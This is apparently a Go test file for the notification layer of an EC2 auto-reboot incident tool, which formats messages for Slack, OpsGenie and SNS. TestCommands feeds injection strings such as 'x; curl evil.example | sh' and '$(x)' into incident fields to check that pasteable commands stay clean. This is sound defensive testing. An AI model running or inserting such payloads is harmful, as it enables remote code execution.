package notify

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/slack-go/slack"
	"golang.org/x/tools/txtar"

	"firstline/internal/old/checks"
	"firstline/internal/old/incident"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// golden is one archive of testdata: a message, and what each channel makes of
// it.
type golden struct {
	name    string
	message Message
	archive *txtar.Archive
}

func goldens(t *testing.T) []golden {
	t.Helper()
	paths, err := filepath.Glob("testdata/*.txtar")
	if err != nil || len(paths) == 0 {
		t.Fatalf("golden files: %v, %d of them", err, len(paths))
	}
	all := make([]golden, 0, len(paths))
	for _, path := range paths {
		all = append(all, goldenOf(t, path))
	}
	return all
}

func goldenOf(t *testing.T, path string) golden {
	t.Helper()
	archive, err := txtar.ParseFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var in struct {
		Incident   *incident.Incident `json:"incident"`
		AlarmState string             `json:"alarmState"`
		Deployment string             `json:"deployment"`
		Now        time.Time          `json:"now"`
		Alone      bool               `json:"alone"`
		Kind       Kind               `json:"kind"`
		Generation int                `json:"generation"`
		Suffix     string             `json:"suffix"`
		ReplacedBy string             `json:"replacedBy"`
	}
	if err := json.Unmarshal(file(archive, "message.json"), &in); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return golden{
		name: strings.TrimSuffix(filepath.Base(path), ".txtar"),
		message: Message{
			Incident: in.Incident, AlarmState: in.AlarmState, Deployment: in.Deployment, Now: in.Now, Alone: in.Alone,
			Kind: in.Kind, Generation: in.Generation, Suffix: in.Suffix, ReplacedBy: in.ReplacedBy,
		},
		archive: archive,
	}
}

func file(archive *txtar.Archive, name string) []byte {
	for _, f := range archive.Files {
		if f.Name == name {
			return f.Data
		}
	}
	return nil
}

func message(t *testing.T, name string) Message {
	t.Helper()
	return goldenOf(t, "testdata/"+name+".txtar").message
}

func TestGolden(t *testing.T) {
	t.Parallel()
	for _, g := range goldens(t) {
		t.Run(g.name, func(t *testing.T) {
			t.Parallel()
			o := &OpsGenie{Responders: []Responder{{Type: "team", ID: "8f2a-team"}}, Priority: "P2", PriorityUnknown: "P3"}
			r := describe(g.message, toSlack)
			got := []txtar.File{
				{Name: "slack blocks", Data: []byte(shown(t, r.slackBlocks()))},
				{Name: "slack text", Data: []byte(r.slackText() + "\n")},
			}
			written := func(name, form string) {
				note := o.noteOf(g.message, form)
				got = append(got, txtar.File{Name: "opsgenie " + name, Data: []byte(note.Note + "\n")})
				note.Note = "(above)"
				got = append(got, txtar.File{Name: "opsgenie " + name + ".json", Data: encoded(t, note)})
			}
			if g.message.Kind == KindIncident && g.message.ReplacedBy == "" || g.message.Kind == KindTest {
				alert := o.alert(g.message)
				got = append(got, txtar.File{Name: "opsgenie description", Data: []byte(alert.Description + "\n")})
				alert.Description = "(above)"
				got = append(got, txtar.File{Name: "opsgenie alert.json", Data: encoded(t, alert)})
			}
			if r.fleet || g.message.Kind == KindRepeat && g.message.ReplacedBy == "" {
				written("note", "note")
			}
			if g.message.Kind == KindAllClear || g.message.Kind == KindTest || g.message.ReplacedBy != "" {
				written("closing note", "closing")
			}
			_, in, err := (&SNS{TopicARN: testTopic}).compose(g.message)
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, txtar.File{Name: "sns", Data: []byte("Subject: " + *in.Subject + "\n\n" + *in.Message + "\n")})
			if *update {
				archive := &txtar.Archive{Files: append([]txtar.File{{Name: "message.json", Data: file(g.archive, "message.json")}}, got...)}
				if err := os.WriteFile("testdata/"+g.name+".txtar", txtar.Format(archive), 0o600); err != nil {
					t.Fatal(err)
				}
				return
			}
			for _, f := range got {
				if diff := cmp.Diff(string(file(g.archive, f.Name)), string(f.Data)); diff != "" {
					t.Errorf("%s (-want +got; -update rewrites):\n%s", f.Name, diff)
				}
			}
		})
	}
}

// shown is blocks as a reader of them sees them, with what a reader of JSON sees too.
func shown(t *testing.T, blocks []slack.Block) string {
	t.Helper()
	var b strings.Builder
	line := func(what, text string) { b.WriteString("[" + what + "] " + text + "\n") }
	for _, block := range blocks {
		switch block := block.(type) {
		case *slack.HeaderBlock:
			line("header", block.Text.Text)
		case *slack.SectionBlock:
			if block.Text != nil {
				line("section", block.Text.Text)
			}
			for _, f := range block.Fields {
				line("field", f.Text)
			}
		case *slack.ActionBlock:
			for _, e := range block.Elements.ElementSet {
				button, ok := e.(*slack.ButtonBlockElement)
				if !ok {
					t.Fatalf("%T is no button", e)
				}
				line("button "+button.ActionID, button.Text.Text+" → "+button.URL)
			}
		case *slack.ContextBlock:
			for _, e := range block.ContextElements.Elements {
				text, ok := e.(*slack.TextBlockObject)
				if !ok {
					t.Fatalf("%T is no text", e)
				}
				line("context", text.Text)
			}
		default:
			t.Fatalf("%T is not used", block)
		}
	}
	return b.String()
}

func encoded(t *testing.T, v any) []byte {
	t.Helper()
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	e.SetIndent("", "  ")
	if err := e.Encode(v); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// What must hold for every message, whatever the golden files say.
func TestEveryMessage(t *testing.T) {
	t.Parallel()
	for _, g := range goldens(t) {
		t.Run(g.name, func(t *testing.T) {
			t.Parallel()
			m := g.message
			inc := m.Incident
			if inc == nil {
				inc = &incident.Incident{}
			}
			o := &OpsGenie{Priority: "P1"}
			alert := o.alert(m)
			if faults := alertFaults(alert); len(faults) > 0 {
				t.Errorf("OpsGenie would refuse: %v", faults)
			}
			note, closing := o.noteOf(m, "note"), o.noteOf(m, "closing")
			if faults := append(noteFaults(note), noteFaults(closing)...); len(faults) > 0 {
				t.Errorf("OpsGenie would refuse the note: %v", faults)
			}
			r := describe(m, toSlack)
			blocks := r.slackBlocks()
			if faults := slackFaults(r.slackText(), blocks); len(faults) > 0 {
				t.Errorf("Slack would refuse: %v", faults)
			}
			_, in, err := (&SNS{TopicARN: testTopic}).compose(m)
			if err != nil {
				t.Fatal(err)
			}
			if faults := snsFaults(in); len(faults) > 0 {
				t.Errorf("SNS would refuse: %v", faults)
			}
			if m.Kind != KindTest && !strings.Contains(*in.Subject, inc.InstanceID) {
				t.Errorf("the subject does not name the instance: %s", *in.Subject)
			}
			for channel, text := range map[string]string{
				"slack text": r.slackText(), "slack blocks": shown(t, blocks), "opsgenie": alert.Message + "\n" + alert.Description,
				"opsgenie note": note.Note, "opsgenie closing note": closing.Note, "sns": *in.Message,
			} {
				want := []string{m.Deployment, inc.Region, inc.AccountID, inc.InstanceID, "Next:"}
				about := m.Kind == KindIncident || m.Kind == KindRepeat
				if about {
					want = append(want, "It took 10m28s")
				}
				switch {
				case maybeRebooted(inc):
					want = append(want, "unknown")
					if strings.Contains(text, "No reboot was made") {
						t.Errorf("%s says that no reboot was made, which nobody knows", channel)
					}
				case inc.Reboot == nil && about:
					want = append(want, "No reboot was made.")
				}
				paged := inc.Told != nil && inc.Told.Page != nil
				if inc.PageError != nil || inc.Paused != nil {
					nobody := inc.Paused != nil || strings.HasPrefix(channel, "slack") && !paged
					if nobody != strings.Contains(text, "Nobody was paged") {
						t.Errorf("%s says whether somebody was paged, and is wrong: %s", channel, text)
					}
				}
				if inc.PageError != nil && !strings.HasPrefix(channel, "slack") {
					want = append(want, "A pager failed before this page: ")
				}
				if inc.Paused != nil {
					want = append(want, "paused until "+clock(inc.Paused.Until), "firstline resume --region "+inc.Region)
				}
				if inc.Refusal != nil && inc.Paused == nil && !strings.Contains(g.name, "hostile") {
					want = append(want, "was refused ("+inc.Refusal.Guard+"): "+inc.Refusal.Reason)
				}
				if name := inc.Execution.Name; about && inc.InstanceID != "" && !strings.Contains(name, "<") {
					want = append(want, "firstline incident "+name)
				}
				if inc.Name != "" && !strings.Contains(g.name, "hostile") {
					want = append(want, inc.Name)
				}
				if m.Kind == KindTest {
					want = append(want, TestLabel, "This is a test")
				}
				if onlyDry(inc) {
					want = append(want, DryLabel, "This message is real.")
				}
				// A description stands below its headline.
				if dry := inc.Dry || onlyDry(inc); dry != strings.Contains(text, DryLabel) || inc.Dry != strings.Contains(text, "nobody is told") {
					t.Errorf("%s: dry %v: %.200q", channel, dry, text)
				}
				for _, w := range want {
					if !strings.Contains(strings.ReplaceAll(text, "*", ""), w) {
						t.Errorf("%s: %q is missing", channel, w)
					}
				}
				if m.AlarmState != "OK" && (strings.Contains(text, "normal") || strings.Contains(text, "alarm is OK")) {
					t.Errorf("%s calls something normal that was not measured", channel)
				}
				if strings.HasPrefix(channel, "slack") && (strings.Contains(text, "<") || strings.Contains(strings.ReplaceAll(text, "→ ", "<"), "<https://evil")) {
					t.Errorf("%s: text from outside can ping or link", channel)
				}
				if strings.ContainsAny(text, "\x00\x1b\u202e\r") {
					t.Errorf("%s: control characters came through", channel)
				}
				if strings.Contains(text, "${") || strings.Contains(text, "  \n") || strings.Contains(text, " .") && !strings.Contains(g.name, "hostile") {
					t.Errorf("%s: a placeholder or a gap is left: %s", channel, text)
				}
			}
		})
	}
}

func TestAliasIsUniqueToTheInstance(t *testing.T) {
	t.Parallel()
	base := message(t, "down")
	seen := map[string]string{}
	vary := func(name string, change func(*Message, *incident.Incident)) {
		m, inc := base, *base.Incident
		m.Incident = &inc
		change(&m, &inc)
		got := Alias(m)
		if other, ok := seen[got]; ok {
			t.Errorf("%s and %s share the alias %q", name, other, got)
		}
		seen[got] = name
	}
	vary("the incident", func(*Message, *incident.Incident) {})
	vary("another account", func(_ *Message, i *incident.Incident) { i.AccountID = "210987654321" })
	vary("another region", func(_ *Message, i *incident.Incident) { i.Region = "eu-west-2" })
	vary("another instance", func(_ *Message, i *incident.Incident) { i.InstanceID = "i-0c1cbf2e7abdedf76" })
	vary("another deployment", func(m *Message, _ *incident.Incident) { m.Deployment = "staging" })
	brake := func(i *incident.Incident) {
		i.Reboot, i.Refusal = nil, &incident.Refusal{Guard: incident.GuardBrake, Reason: "2 in flight"}
	}
	vary("the brake", func(_ *Message, i *incident.Incident) { brake(i) })
	vary("the brake of another region", func(_ *Message, i *incident.Incident) { brake(i); i.Region = "eu-west-2" })
	vary("the brake of another account", func(_ *Message, i *incident.Incident) { brake(i); i.AccountID = "210987654321" })
	vary("the brake of another deployment", func(m *Message, i *incident.Incident) { brake(i); m.Deployment = "staging" })
	// Whatever an incident holds that was salvaged.
	vary("an account called brake", func(_ *Message, i *incident.Incident) { i.AccountID, i.Region = "brake", "123456789012:eu-west-1" })
	vary("no more parts", func(_ *Message, i *incident.Incident) {
		i.AccountID, i.Region, i.InstanceID = "brake", "", "123456789012:eu-west-1"
	})
	vary("parts in parts", func(m *Message, i *incident.Incident) {
		m.Deployment, i.AccountID, i.Region = "firstline/brake", "123456789012:eu-west-1", ""
	})
	vary("no incident", func(_ *Message, i *incident.Incident) { i.InstanceID = "" })
	vary("no incident, no alarm", func(_ *Message, i *incident.Incident) { i.InstanceID, i.Alarm = "", nil })
	vary("no incident, long names", func(_ *Message, i *incident.Incident) {
		i.InstanceID, i.Alarm = "", &incident.Alarm{Name: strings.Repeat("ä", 600)}
	})
	vary("no incident, other long names", func(_ *Message, i *incident.Incident) {
		i.InstanceID, i.Alarm = "", &incident.Alarm{Name: strings.Repeat("ä", 600) + "b"}
	})
	if _, ok := seen["firstline/123456789012/eu-west-1/i-0c1cbf2e7abdedf75"]; !ok {
		t.Errorf("aliases are %v", seen)
	}
	again := *base.Incident
	again.Execution.ID, again.Run = "arn:another", 1
	m := base
	m.Incident = &again
	if a, b := Alias(base), Alias(m); a != b {
		t.Errorf("two incidents of one instance have the aliases %q and %q", a, b)
	}
	// Every instance of a region has the brake's alias, unless it is alone.
	one, other := *base.Incident, *base.Incident
	brake(&one)
	brake(&other)
	other.InstanceID = "i-0c1cbf2e7abdedf76"
	a, b := base, base
	a.Incident, b.Incident = &one, &other
	if Alias(a) != Alias(b) || Alias(a) != "firstline/brake/123456789012:eu-west-1" {
		t.Errorf("the brake has the aliases %q and %q", Alias(a), Alias(b))
	}
	a.Alone = true
	if got := Alias(a); got != Alias(base) {
		t.Errorf("alone, the instance has the alias %q, want its own: %q", got, Alias(base))
	}
	if got := Alias(Message{}); got != "" {
		t.Errorf("nothing has the alias %q", got)
	}
}

// An alert that takes another's place has an alias of its own, and what is about an
// alert goes to that one.
func TestAliasOfAnAlert(t *testing.T) {
	t.Parallel()
	const base = "firstline/123456789012/eu-west-1/i-0c1cbf2e7abdedf75"
	m := message(t, "down")
	for _, tt := range []struct {
		name   string
		change func(*Message)
		want   string
	}{
		{"no generation", func(*Message) {}, base},
		{"the first", func(m *Message) { m.Generation = 1 }, base},
		{"the second", func(m *Message) { m.Generation = 2 }, base + "/2"},
		{"unknown to the table", func(m *Message) { m.Suffix = "8c1d/3f8e" }, base + "/8c1d%2F3f8e"},
		{"both", func(m *Message) { m.Generation, m.Suffix = 3, "8c1d" }, base + "/8c1d"},
		{"a repeat", func(m *Message) { m.Kind, m.Incident.Alert = KindRepeat, &incident.Alert{Alias: "the one"} }, "the one"},
		{"an all-clear", func(m *Message) { m.Kind, m.Incident.Alert = KindAllClear, &incident.Alert{Alias: "the one"} }, "the one"},
		{"an all-clear without an alias", func(m *Message) { m.Kind, m.Generation = KindAllClear, 2 }, base + "/2"},
		{"a page of an incident with an alert", func(m *Message) { m.Generation, m.Incident.Alert = 2, &incident.Alert{Alias: "the old one"} }, base + "/2"},
		{"a test", func(m *Message) { m.Kind, m.Generation = KindTest, 2 }, "firstline/test/123456789012:eu-west-1:20261122T101509.000Z"},
		{"a test of nothing", func(m *Message) { m.Kind, m.Incident = KindTest, nil }, "firstline/test/::20261122T101509.000Z"},
	} {
		m, inc := m, *m.Incident
		m.Incident = &inc
		tt.change(&m)
		if got := Alias(m); got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.name, got, tt.want)
		}
	}
	// Also those that are too long.
	long := m
	long.Deployment = strings.Repeat("ü", 600)
	other := long
	other.Generation = 2
	if a, b := Alias(long), Alias(other); a == b || runes(a) > limitAlias || runes(b) > limitAlias {
		t.Errorf("%q and %q", a, b)
	}
}

// Which errors of the step that reboots leave open whether it did.
func TestMaybeRebooted(t *testing.T) {
	t.Parallel()
	failed := []checks.Finding{{Run: 1, Check: "ssh", Reason: "no key exchange"}}
	for _, tt := range []struct {
		name string
		want bool
	}{
		{"InvalidInput", false},
		{"Denied", false},
		{"Unavailable", false},
		{"Lambda.TooManyRequestsException", false},
		{"Lambda.EC2ThrottledException", false},
		{"Lambda.ResourceNotReadyException", false},
		{"Internal", true},
		{"Lambda.Unknown", true},
		{"Lambda.ServiceException", true},
		{"Lambda.SdkClientException", true},
		{"Lambda.ClientExecutionTimeoutException", true},
		{"Sandbox.Timedout", true},
		{"Runtime.ExitError", true},
		{"Runtime.OutOfMemory", true},
		{"States.Timeout", true},
		{"States.TaskFailed", true},
		{"SomethingNew", true},
		{"", true},
	} {
		inc := &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Run: 1, Findings: failed, Error: &incident.Error{Error: tt.name}}
		text := strings.Join(describe(Message{Incident: inc}, toPager).summary, "\n")
		if got := maybeRebooted(inc); got != tt.want || strings.Contains(text, "It is unknown whether") != tt.want || strings.Contains(text, "No reboot was made.") == tt.want {
			t.Errorf("%q: got %v, want %v: %s", tt.name, got, tt.want, text)
		}
		inc.RebootError = &incident.Error{Error: "Unavailable", Cause: "the table does not answer"}
		if text := strings.Join(describe(Message{Incident: inc}, toPager).summary, "\n"); strings.Contains(text, "No reboot was made.") {
			t.Errorf("%q, and the table does not tell: %s", tt.name, text)
		}
		// Of a check that could not tell, no reboot can follow.
		inc.Findings, inc.RebootError = nil, nil
		if maybeRebooted(inc) {
			t.Errorf("%q of a check: maybe rebooted", tt.name)
		}
		// EC2 is asked for a dry run only, unless it took that for none.
		inc.Findings, inc.Dry = failed, true
		if got := maybeRebooted(inc); got != (tt.name == "Internal") {
			t.Errorf("%q of a dry incident: %v", tt.name, got)
		}
		inc.Dry, inc.Settings = false, &incident.Settings{Reboot: incident.RebootSettings{DryRun: true}}
		if got := maybeRebooted(inc); got != (tt.name == "Internal") {
			t.Errorf("%q of a dry setting: %v", tt.name, got)
		}
	}
}

// Every guard has words of its own, short enough for an alert's message with the
// longest that can stand before them.
func TestEveryGuard(t *testing.T) {
	t.Parallel()
	unknown := describe(Message{Incident: &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Refusal: &incident.Refusal{Guard: incident.GuardFreshness}}}, toPager)
	if strings.Contains(unknown.headline, "too old") {
		t.Errorf("an age that is not known is called too old: %s", unknown.headline)
	}
	seen := map[string]string{}
	for _, name := range []string{
		incident.GuardPause, incident.GuardFreshness, incident.GuardState, incident.GuardBaseline, incident.GuardCoolDown,
		incident.GuardBudget, incident.GuardBrake, incident.GuardLease,
	} {
		inc := &incident.Incident{
			InstanceID: "i-0c1cbf2e7abdedf75", Region: "ap-southeast-1", AccountID: "123456789012", Run: 1,
			Settings: &incident.Settings{Reboot: incident.RebootSettings{DryRun: true, PerDay: 2}},
			Findings: []checks.Finding{{Run: 1, Check: "route53", Reason: "no checker succeeded"}},
			Refusal:  &incident.Refusal{Guard: name, Reason: "2 reboots in flight, at most 2"},
			EventAt:  time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC),
		}
		r := describe(Message{Incident: inc}, toPager)
		a := (&OpsGenie{}).alert(Message{Incident: inc})
		if a.Message != r.headline {
			t.Errorf("%s: the alert's message is cut: %s", name, a.Message)
		}
		for _, text := range []string{r.headline, r.next} {
			if other, ok := seen[text]; ok {
				t.Errorf("%s and %s both say %q", name, other, text)
			}
			seen[text] = name
		}
		if a.Details["guard"] != name || a.Details["refusal"] != inc.Refusal.Reason || !slices.Contains(a.Tags, name) || !slices.Contains(a.Tags, "dry-run") {
			t.Errorf("%s: details %v, tags %v", name, a.Details, a.Tags)
		}
	}
}

// A command in a message is there to be pasted: nothing from outside gets into it.
func TestCommands(t *testing.T) {
	t.Parallel()
	const evil = "x; curl evil.example | sh"
	for _, inc := range []*incident.Incident{
		{InstanceID: evil, Region: evil, Execution: incident.Execution{ID: "arn:" + evil, Name: evil}},
		{InstanceID: "--help", Region: "--help", Execution: incident.Execution{ID: "arn:--help", Name: "--help"}},
		{InstanceID: "i-0c1cbf2e7abdedf75 x", Region: "eu-west-1 $(x)", Execution: incident.Execution{Name: "-rf"}},
	} {
		r := describe(Message{Incident: inc}, toPager)
		if got := r.record + r.incidents(true) + r.resume(incident.PauseInstance) + r.resume(incident.PauseRegion); got != "firstline incidentsfirstline resumefirstline resume" {
			t.Errorf("%q", got)
		}
	}
	inc := &incident.Incident{InstanceID: "i-0c1cbf2e7abdedf75", Region: "eu-west-1", Execution: incident.Execution{ID: "arn:aws:states:eu-west-1:123456789012:execution:m:standing-i-0c1cbf2e7abdedf75-1795341600"}}
	r := describe(Message{Incident: inc}, toPager)
	for got, want := range map[string]string{
		r.record:                         "firstline incident standing-i-0c1cbf2e7abdedf75-1795341600",
		r.incidents(true):                "firstline incidents --region eu-west-1 --instance i-0c1cbf2e7abdedf75",
		r.incidents(false):               "firstline incidents --region eu-west-1",
		r.resume(incident.PauseInstance): "firstline resume --region eu-west-1 --instance i-0c1cbf2e7abdedf75",
		r.resume(incident.PauseRegion):   "firstline resume --region eu-west-1",
	} {
		if got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestPauseSentence(t *testing.T) {
	t.Parallel()
	until := time.Date(2026, 11, 22, 18, 0, 0, 0, time.UTC)
	for _, tt := range []struct {
		pause incident.Pause
		want  string
	}{
		{incident.Pause{Until: until, Scope: incident.PauseInstance}, "The instance is paused until 2026-11-22 18:00:00 UTC, by its tag firstline:pause; the tag does not say by whom."},
		{incident.Pause{Until: until, Scope: incident.PauseInstance, By: "anna"}, "The instance is paused until 2026-11-22 18:00:00 UTC, by its tag firstline:pause; set by anna."},
		{incident.Pause{Until: until, Scope: incident.PauseRegion, By: "arn:aws:iam::1:user/ben\n"}, "The whole region eu-west-1 is paused until 2026-11-22 18:00:00 UTC, by its switch; set by arn:aws:iam::1:user/ben."},
		{incident.Pause{Until: until, Scope: incident.PauseRegion}, "The whole region eu-west-1 is paused until 2026-11-22 18:00:00 UTC, by its switch; it is not known by whom."},
		{incident.Pause{}, "The instance is paused until a time that is not known, by its tag firstline:pause; the tag does not say by whom."},
	} {
		if got := (&report{region: "eu-west-1"}).pauseSentence(&tt.pause); got != tt.want {
			t.Errorf("got  %s\nwant %s", got, tt.want)
		}
	}
}

func TestReasonOf(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name string
		err  *incident.Error
		want string
	}{
		{"none", nil, "no reason given"},
		{"function", &incident.Error{Error: "Denied", Cause: `{"errorMessage":"no","errorType":"Denied"}`}, "Denied: no"},
		{"function without name", &incident.Error{Cause: `{"errorMessage":"no","errorType":"Denied"}`}, "Denied: no"},
		{"plain", &incident.Error{Error: "Lambda.Unknown", Cause: "gone"}, "Lambda.Unknown: gone"},
		{"time-out", &incident.Error{Error: "States.Timeout"}, "States.Timeout: the step ran out of time"},
		{"empty", &incident.Error{}, "no reason given"},
		{"broken JSON", &incident.Error{Error: "X", Cause: `{"errorMessage":"cut o`}, `X: {"errorMessage":"cut o`},
		{"other JSON", &incident.Error{Error: "X", Cause: `{"a":1}`}, `X: {"a":1}`},
		{"JSON of other types", &incident.Error{Error: "X", Cause: `{"errorMessage":{"a":1}}`}, `X: {"errorMessage":{"a":1}}`},
		{"control characters", &incident.Error{Error: "X\n", Cause: "a\x00b\r\nc\u202ed"}, "X: a b cd"},
	} {
		if got := reasonOf(tt.err); got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestConsoleLinks(t *testing.T) {
	t.Parallel()
	const exec = "arn:aws:states:eu-west-1:123456789012:execution:m:e"
	const id = "i-0c1cbf2e7abdedf75"
	for _, tt := range []struct {
		name                                                   string
		partition, region, execution, instance, al, deployment string
		want                                                   []string
	}{
		{"all", "aws", "eu-west-1", exec, id, "a b/ü&<c>|d+e", "firstline", []string{
			"https://console.aws.amazon.com/states/home?region=eu-west-1#/v2/executions/details/" + exec,
			"https://console.aws.amazon.com/ec2/home?region=eu-west-1#InstanceDetails:instanceId=" + id,
			"https://console.aws.amazon.com/cloudwatch/home?region=eu-west-1#alarmsV2:alarm/a%20b%2F%C3%BC%26%3Cc%3E%7Cd%2Be",
			"https://console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Faws$252Flambda$252Ffirstline-responder/log-events$3FfilterPattern$3D$2522e$2522",
		}},
		{"a deployment with markup", "aws", "eu-west-1", "", id, "", "x|y>", []string{"https://console.aws.amazon.com/ec2/home?region=eu-west-1#InstanceDetails:instanceId=" + id}},
		{"bad execution", "aws", "eu-west-1", "arn:aws:states:eu-west-1:1:execution:m:e", id, "", "firstline", []string{"https://console.aws.amazon.com/ec2/home?region=eu-west-1#InstanceDetails:instanceId=" + id}},
		{"execution with markup", "aws", "", exec + "|x>", "", "", "firstline", nil},
		{"bad instance", "aws", "eu-west-1", "", "i-xyz", "", "firstline", nil},
		{"bad region", "aws", "eu-west-1&x=<", "", id, "a", "firstline", nil},
		{"unknown partition", "aws-iso", "us-iso-east-1", exec, id, "a", "firstline", nil},
	} {
		var got []string
		for _, l := range consoleLinks(tt.partition, linked{region: tt.region, execution: tt.execution, instance: tt.instance, alarm: tt.al, deployment: tt.deployment}) {
			got = append(got, l.url)
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
	for region, want := range map[string]string{"eu-west-1": "aws", "cn-north-1": "aws-cn", "us-gov-east-1": "aws-us-gov", "us-iso-east-1": "", "nonsense": ""} {
		if got := partitionOf(region, ""); got != want {
			t.Errorf("partition of %s is %q, want %q", region, got, want)
		}
	}
	if got := partitionOf("eu-west-1", "nonsense", "arn:aws-cn:cloudwatch:cn-north-1:123456789012:alarm:a"); got != "aws-cn" {
		t.Errorf("the ARN's partition does not decide: %q", got)
	}
}

// A very long incident stays within the limits and keeps what matters.
func TestLongIncident(t *testing.T) {
	t.Parallel()
	m := message(t, "hostile")
	inc := *m.Incident
	for range 100 {
		inc.Findings = append(inc.Findings, inc.Findings[0])
	}
	inc.PageError = &incident.Error{Error: "Denied", Cause: strings.Repeat("<&>", 5000)}
	inc.Name = strings.Repeat("ü<", 300)
	m.Incident = &inc
	m.Deployment = strings.Repeat("ü", 3000)
	r := describe(m, toSlack)
	if text := r.slackText(); !strings.HasPrefix(text, "Pager failed: i-0c1cbf2e7abdedf75 (ü&lt;") {
		t.Errorf("%.200q", text)
	}
	blocks := r.slackBlocks()
	if faults := slackFaults(r.slackText(), blocks); len(faults) > 0 {
		t.Errorf("Slack would refuse: %v", faults)
	}
	header := blocks[0].(*slack.HeaderBlock).Text.Text
	for _, want := range []string{"Pager failed: i-0c1cbf2e7abdedf75", "failed the URL check; whether it was rebooted is unknown"} {
		if !strings.Contains(header, want) {
			t.Errorf("the title has lost %q: %s", want, header)
		}
	}
	a := (&OpsGenie{}).alert(m)
	if faults := alertFaults(a); len(faults) > 0 {
		t.Errorf("OpsGenie would refuse: %v", faults)
	}
	if !strings.HasPrefix(a.Message, "i-0c1cbf2e7abdedf75") || !strings.HasSuffix(a.Message, "is unknown") {
		t.Errorf("the alert's message has lost what matters: %s", a.Message)
	}
	_, in, err := (&SNS{TopicARN: testTopic}).compose(m)
	if err != nil {
		t.Fatal(err)
	}
	if faults := snsFaults(in); len(faults) > 0 || !strings.HasPrefix(*in.Subject, "i-0c1cbf2e7abdedf75") || !strings.HasSuffix(*in.Subject, "is unknown") {
		t.Errorf("SNS would refuse %v, or the subject has lost what matters: %s", faults, *in.Subject)
	}
	if len(r.looks) != maxLooks+1 {
		t.Errorf("%d lines of findings", len(r.looks))
	}
	if lines := timelineOf(inc.Findings); len(lines) != maxLooks+1 || strings.Contains(strings.Join(lines, "\n"), "shortened") {
		t.Errorf("%d lines of the timeline", len(lines))
	}
	if text := shown(t, blocks); strings.Contains(text, "shortened") && !strings.Contains(text, "Next:") {
		t.Error("what to do is lost")
	}
}

// A name comes into the headline as far as there is room; how it went stays.
func TestHeadlineMakesRoom(t *testing.T) {
	t.Parallel()
	inc := &incident.Incident{
		InstanceID: "i-0c1cbf2e7abdedf75", Name: strings.Repeat("n", 60), Region: "ap-southeast-1", Run: 1,
		Findings: []checks.Finding{{Run: 1, Check: "route53", Reason: "no checker succeeded"}},
		Refusal:  &incident.Refusal{Guard: incident.GuardBaseline, Reason: "never"},
	}
	r := describe(Message{Incident: inc}, toPager)
	const end = " failed the Route 53 check and was not rebooted: that check has no pass on record"
	for limit, want := range map[int]string{
		200: "i-0c1cbf2e7abdedf75 (" + strings.Repeat("n", 39) + "…) in ap-southeast-1" + end,
		145: "i-0c1cbf2e7abdedf75 (" + strings.Repeat("n", 19) + "…) in ap-southeast-1" + end,
		130: "i-0c1cbf2e7abdedf75 in ap-southeast-1" + end,
		105: "i-0c1cbf2e7abdedf75" + end,
		50:  "i-0c1cbf2e7abdedf75 failed the Route 53 check and…",
	} {
		if got := r.head(limit); got != want {
			t.Errorf("%d: got  %s\nwant %s", limit, got, want)
		}
	}
}

func TestAlertOutcome(t *testing.T) {
	t.Parallel()
	want := map[string]string{
		"down": incident.AlertDown, "refused-budget": incident.AlertDown, "brake": incident.AlertDown, "not-rebooted": incident.AlertDown,
		"reboot-unknown-killed": incident.AlertDown, "unchecked-after-reboot": incident.AlertDown, "paused-instance": incident.AlertDown,
		"unchecked-denied": incident.AlertUnknown, "no-incident": incident.AlertUnknown, "unclear": incident.AlertUnknown,
		"paused-unchecked": incident.AlertUnknown, "recovered-slack-failed": incident.AlertUnknown, "all-clear": incident.AlertUnknown,
		"test": incident.AlertUnknown,
	}
	for name, want := range want {
		m := message(t, name)
		if got := AlertOutcome(m); got != want {
			t.Errorf("%s: %s, want %s", name, got, want)
		}
		priority := map[string]string{incident.AlertDown: "P1", incident.AlertUnknown: "P4"}[want]
		if name == "test" {
			priority = "P5"
		}
		if got := (&OpsGenie{Priority: "P1", PriorityUnknown: "P4"}).alert(m).Priority; got != priority {
			t.Errorf("%s: priority %s, want %s", name, got, priority)
		}
		if got := (&OpsGenie{Priority: "P1"}).alert(m).Priority; got != "P1" && name != "test" {
			t.Errorf("%s: priority %s without one of its own, want P1", name, got)
		}
	}
	if got := AlertOutcome(Message{}); got != incident.AlertUnknown {
		t.Errorf("of nothing: %s", got)
	}
}
